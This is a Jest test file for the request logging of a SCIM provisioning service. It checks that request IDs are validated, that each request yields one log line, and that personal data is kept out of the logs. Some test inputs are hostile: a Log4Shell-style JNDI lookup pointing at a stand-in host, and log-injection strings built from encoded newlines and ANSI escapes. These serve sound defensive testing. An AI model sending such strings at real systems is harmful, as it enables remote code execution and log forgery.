import { afterAll, afterEach, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { Writable } from 'node:stream';
import { setImmediate as nextTurn } from 'node:timers/promises';
import { QueryFailedError } from 'typeorm';
import { ScimError } from '../../src/scim/index.js';
import { createLogger } from '../../src/ops/logging.js';
import { UsersService } from '../../src/users/users.service.js';
import type { Resource } from '../support/client.js';
import { exchange, head } from '../support/raw-http.js';
import { startServer, type TestServer } from '../support/server.js';

type Line = Record<string, unknown>;

const uuidPattern = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;

let server: TestServer;

beforeAll(async () => {
  server = await startServer();
});

afterEach(() => void jest.restoreAllMocks());
afterAll(() => server.close());

/**
 * What is logged while something is done: all of it, for a request is logged only when its connection is done with it.
 * @param requests how many requests that is
 */
async function logged<T>(work: () => Promise<T>, requests = 1): Promise<{ result: T; lines: Line[]; text: string }> {
  const before = server.logged().length;
  const result = await work();
  const lines = (): Line[] => server.logged().slice(before);
  while (lines().filter(({ msg }) => msg === 'request').length < requests) await nextTurn();
  return { result, lines: lines(), text: JSON.stringify(lines()) };
}

describe('the log of requests', () => {
  it('has one JSON object for each, with its id, method, path, status, duration and tenant', async () => {
    const { result, lines } = await logged(() => server.scim.get('/Users?count=1'));
    expect(lines).toEqual([
      {
        level: 30,
        time: expect.any(Number),
        service: 'rollcall',
        requestId: result.headers.get('X-Request-Id'),
        method: 'GET',
        path: '/scim/v2/Users',
        status: 200,
        complete: true,
        durationMs: expect.any(Number),
        tenant: 'default',
        msg: 'request',
      },
    ]);
    expect(result.headers.get('X-Request-Id')).toMatch(uuidPattern);
  });

  it('has no tenant where nobody is known', async () => {
    const { lines } = await logged(() => server.scim.delete('/Users', { token: null }));
    expect(lines.map(({ method, status, tenant }) => [method, status, tenant])).toEqual([['DELETE', 401, undefined]]);
  });

  it.each(['a', 'req-1.2_3', 'A'.repeat(128)])('takes the id that a proxy gave: %s', async (requestId) => {
    const { result, lines } = await logged(() => server.scim.get('/Users', { headers: { 'X-Request-Id': requestId } }));
    expect([result.headers.get('X-Request-Id'), lines[0]?.['requestId']]).toEqual([requestId, requestId]);
  });

  it.each(['a b', 'a"b', '{"a":1}', '${jndi:ldap://evil.example/a}', 'A'.repeat(129), 'é', 'a\tb'])(
    'makes an id of its own in place of one that could do harm: %s',
    async (requestId) => {
      const { result, lines } = await logged(() =>
        exchange(server.origin, head('GET', '/livez', `X-Request-Id: ${requestId}`)),
      );
      expect(result.headers['x-request-id']).toMatch(uuidPattern);
      expect(lines[0]?.['requestId']).toBe(result.headers['x-request-id']);
    },
  );

  it('makes an id of its own in place of two', async () => {
    const { result } = await logged(() =>
      exchange(server.origin, head('GET', '/livez', 'X-Request-Id: a', 'X-Request-Id: b')),
    );
    expect(result.headers['x-request-id']).toMatch(uuidPattern);
  });

  it('stays one line a request, whatever the path holds', async () => {
    const path = `/scim/v2/Users/a%0a%7b%22level%22:60%7d%1b[2J\${jndi:ldap://evil}${'x'.repeat(1000)}`;
    const { lines } = await logged(() =>
      exchange(server.origin, head('GET', path, `Authorization: Bearer ${server.scim.token}`)),
    );
    expect(lines.map(({ level, path: shown, status }) => [level, shown, status])).toEqual([
      [30, path.slice(0, 256), 404],
    ]);
  });
});

describe('personal data (RFC 7644 section 7.5)', () => {
  const person = {
    userName: 'grace.hopper@navy.example',
    displayName: 'Rear Admiral Grace\n{"level":60}\u001b[2J',
    name: { familyName: 'Hopper' },
    emails: [{ value: 'grace@home.example' }],
    password: 'Nanoseconds-11.8-inches',
  };
  const traces = /hopper|grace|navy|nanoseconds|scrypt/i;

  it('is not logged where the database repeats it in the message of what failed within a bulk request', async () => {
    const refused = Object.assign(new Error('invalid input: "grace.hopper"'), { code: '22P02' });
    const away = Object.assign(new Error('connect ECONNREFUSED 10.0.0.7'), { code: 'ECONNREFUSED' });
    const unavailable = new ScimError('unavailable');
    unavailable.cause = away;
    const create = jest.spyOn(server.app.get(UsersService), 'create');
    create.mockRejectedValueOnce(new QueryFailedError('INSERT', ['grace'], refused)).mockRejectedValueOnce(unavailable);
    const operation = (bulkId: string) => ({ method: 'POST', path: '/Users', bulkId, data: { userName: 'grace' } });
    const { result, lines, text } = await logged(() =>
      server.scim.post<{ Operations: { status: string }[] }>('/Bulk', {
        schemas: ['urn:ietf:params:scim:api:messages:2.0:BulkRequest'],
        Operations: [operation('a'), operation('b')],
      }),
    );
    expect(result.body.Operations.map(({ status }) => status)).toEqual(['500', '503']);
    const requestId = result.headers.get('X-Request-Id');
    expect(lines.filter(({ level }) => level === 50)).toEqual([
      expect.objectContaining({ requestId, err: expect.objectContaining({ type: 'QueryFailedError', code: '22P02' }) }),
      expect.objectContaining({ requestId, err: expect.objectContaining({ code: 'ECONNREFUSED' }) }),
    ]);
    expect(text).not.toMatch(traces);
  });

  it('is not logged, whatever is done with it', async () => {
    const { text } = await logged(async () => {
      const created = await server.scim.post('/Users', person);
      const path = `/Users/${created.body.id}`;
      await server.scim.post('/Users', person);
      await server.scim.put(path, { ...person, userName: ' Grace Hopper ' });
      await server.scim.put(path, { ...person, title: 'Hopper' });
      await server.scim.operations(path, [{ op: 'replace', path: 'emails[value eq "grace"].value', value: 5 }]);
      await server.scim.list(`/Users?filter=${encodeURIComponent('userName eq "grace.hopper@navy.example"')}`);
      await server.scim.list(`/Users?filter=${encodeURIComponent('userName eq "grace.hopper')}`);
      await server.scim.send('POST', '/Users', '{"userName":"grace.hopper@navy.example"');
      await server.scim.get('/Users?attributes=grace', { token: null });
      await server.scim.delete(path);
    }, 10);
    expect(text).not.toMatch(traces);
    expect(text).not.toContain('?');
    expect(text).not.toContain(server.scim.token);
  });

  it('is not logged when the database fails over it', async () => {
    const driverError = Object.assign(new Error('invalid input syntax for type uuid: "grace.hopper@navy.example"'), {
      code: '22P02',
      detail: 'Key (user_name)=(grace.hopper@navy.example) already exists.',
      where: "unnamed portal parameter $1 = 'grace'",
      constraint: 'some_constraint',
      table: 'users',
      routine: 'string_to_uuid',
    });
    const failure = new QueryFailedError("SELECT 'grace'", ['grace.hopper@navy.example'], driverError);
    jest.spyOn(server.app.get(UsersService), 'read').mockRejectedValueOnce(failure);
    const { result, lines, text } = await logged(() => server.scim.get<Resource>('/Users/x'));
    expect(result.status).toBe(500);
    expect(lines[0]).toEqual({
      level: 50,
      time: expect.any(Number),
      service: 'rollcall',
      requestId: result.headers.get('X-Request-Id'),
      msg: 'unexpected error',
      err: {
        type: 'QueryFailedError',
        code: '22P02',
        constraint: 'some_constraint',
        table: 'users',
        routine: 'string_to_uuid',
        stack: expect.stringMatching(/^ +at /),
      },
    });
    expect(text).not.toMatch(traces);
  });
});

describe('the logger', () => {
  /** What a logger at a level writes. */
  function written(
    logLevel: 'info' | 'error' | 'silent',
    write: (logger: ReturnType<typeof createLogger>) => void,
  ): unknown[] {
    const lines: string[] = [];
    const sink = new Writable({ write: (chunk, _, done) => (lines.push(String(chunk)), done()) });
    write(createLogger({ logLevel }, sink));
    return lines.map((line) => JSON.parse(line) as unknown);
  }
  const common = { time: expect.any(Number), service: 'rollcall' };

  it('writes what its level lets through', () => {
    const all = (logger: ReturnType<typeof createLogger>): void => {
      logger.debug('debug');
      logger.info('info');
      logger.error('error');
    };
    expect(written('info', all)).toEqual([
      { ...common, level: 30, msg: 'info' },
      { ...common, level: 50, msg: 'error' },
    ]);
    expect(written('error', all)).toEqual([{ ...common, level: 50, msg: 'error' }]);
    expect(written('silent', all)).toEqual([]);
  });

  it('tells where an error comes from, and what caused it', () => {
    const cause = Object.assign(new Error('connect ECONNREFUSED'), { code: 'ECONNREFUSED', token: 'secret' });
    const stack = expect.stringMatching(/^ +at /);
    expect(written('info', (logger) => logger.error({ err: new TypeError('a defect', { cause }) }, 'failed'))).toEqual([
      {
        ...common,
        level: 50,
        msg: 'failed',
        err: {
          type: 'TypeError',
          message: 'a defect',
          stack,
          cause: { type: 'Error', message: 'connect ECONNREFUSED', code: 'ECONNREFUSED', stack },
        },
      },
    ]);
  });

  it('keeps the message of a broken connection, whose code looks like one of SQL', () => {
    const broken = Object.assign(new Error('write EPIPE'), { code: 'EPIPE' });
    expect(written('info', (logger) => logger.error({ err: broken }))).toEqual([
      expect.objectContaining({ err: expect.objectContaining({ message: 'write EPIPE', code: 'EPIPE' }) }),
    ]);
  });

  it('says of something thrown that is no error only what it is', () => {
    expect(written('info', (logger) => logger.error({ err: 'grace' }))).toEqual([
      { ...common, level: 50, err: { type: 'string' } },
    ]);
  });
});
